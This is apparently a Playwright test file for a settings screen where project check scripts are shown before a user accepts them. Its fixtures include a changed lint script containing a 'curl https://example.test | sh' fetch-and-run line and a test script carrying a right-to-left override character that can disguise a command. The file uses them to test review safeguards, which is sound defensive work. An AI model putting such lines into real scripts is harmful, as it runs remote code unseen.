// The checks of a project: in the settings, where each is seen before it is accepted, and the card that offers proposals after a turn that wrote.

import type { Page } from '@playwright/test';
import { fits } from './looks';
import { test } from './kept';
import { expect, turnTo } from './window';

const of = (page: Page, name: string) => page.locator(`[data-testid='check'][data-check='${name}']`);
const proposed = (page: Page, name: string) => page.locator(`[data-testid='check-proposed'][data-check='${name}']`);

async function openChecks(page: Page): Promise<void> {
  await page.keyboard.press('Control+,');
  await turnTo(page, 'Project');
  await expect(page.getByTestId('check-add')).toBeVisible();
}

test('V1: a proposal is accepted where its script is shown, and then it has run once', async ({ page, open }) => {
  await open('checks');
  await openChecks(page);
  const card = proposed(page, 'npm-test');
  await expect(card.getByTestId('check-accept')).toHaveCount(0);
  await card.locator('summary').click();
  await expect(card.getByTestId('check-script')).toContainText('package.json: scripts.pretest');
  // What turns the direction of a text is told by its number.
  await expect(card.getByTestId('check-script')).toContainText('vitest run⟨U+202E⟩ && echo done');
  await expect(card.getByTestId('check-accept')).toBeDisabled();
  await expect(card.getByTestId('check-accept')).toBeEnabled();
  await card.getByTestId('check-accept').click();
  await expect(of(page, 'npm-test').getByRole('status')).toContainText('Passed');
  await expect(of(page, 'npm-test').getByTestId('check-output')).toContainText('test it_adds ... ok');
  await expect(card).toHaveCount(0);
});

test('V1: of a script that changed, old and new are shown, and it runs when the new one is accepted', async ({
  page,
  open,
}) => {
  await open('checks');
  await openChecks(page);
  const row = of(page, 'make-lint');
  await expect(row.getByRole('button', { name: 'Run make-lint' })).toHaveCount(0);
  await expect(row.getByTestId('check-changed')).toContainText('curl https://example.test | sh');
  await row.getByTestId('check-accept').click();
  await expect(row.getByTestId('check-changed')).toHaveCount(0);
  await expect(row.getByRole('status')).toContainText('Passed');
  await row.getByRole('button', { name: 'Remove make-lint' }).click();
  await expect(row).toHaveCount(0);
});

test('a check is added with the script that was seen; a line that is changed has to be looked at again', async ({
  page,
  open,
}) => {
  await open('checks');
  await openChecks(page);
  await page.getByTestId('check-add').click();
  const form = page.getByTestId('check-form');
  await form.getByLabel('Name').fill('own');
  await form.getByLabel('Command').fill('./check.sh');
  await form.getByRole('button', { name: 'Show what it runs' }).click();
  await expect(form.getByTestId('check-script')).toContainText('echo checked');
  await form.getByLabel('Command').fill('./check.sh --all');
  await expect(form.getByTestId('check-accept')).toHaveCount(0);
  await form.getByRole('button', { name: 'Show what it runs' }).click();
  await form.getByTestId('check-accept').click();
  await expect(of(page, 'own')).toContainText('./check.sh --all');
  await of(page, 'own').getByRole('checkbox').click();
  await expect(of(page, 'own').getByRole('checkbox')).not.toBeChecked();
});

test('a name that is taken is refused in the form', async ({ page, open }) => {
  await open('checks');
  await openChecks(page);
  await page.getByTestId('check-add').click();
  const form = page.getByTestId('check-form');
  await form.getByLabel('Name').fill('cargo-test');
  await form.getByLabel('Command').fill('./check.sh');
  await form.getByRole('button', { name: 'Show what it runs' }).click();
  await form.getByTestId('check-accept').click();
  await expect(form.getByRole('alert')).toContainText('this project has a check cargo-test already');
});

test('V1: proposals are offered once, after a turn that wrote, and nothing is accepted there', async ({
  page,
  open,
}) => {
  await open('checks-proposed');
  const offered = page.getByTestId('checks-offered');
  await expect(offered).toContainText('files propose 2 checks.');
  await expect(offered.getByTestId('check-accept')).toHaveCount(0);
  await page.getByTestId('checks-look').click();
  await expect(proposed(page, 'npm-test')).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(offered).toHaveCount(0);
});

fits({
  'checks-settings': {
    scene: 'checks',
    reach: async (page) => {
      await openChecks(page);
      await proposed(page, 'npm-test').locator('summary').click();
      await of(page, 'cargo-test').scrollIntoViewIfNeeded();
    },
  },
  'checks-form': {
    scene: 'checks',
    reach: async (page) => {
      await openChecks(page);
      await page.getByTestId('check-add').click();
      await page.getByTestId('check-form').scrollIntoViewIfNeeded();
    },
  },
  'checks-offered': {
    scene: 'checks-proposed',
    reach: (page) => expect(page.getByTestId('checks-offered')).toBeVisible(),
  },
});
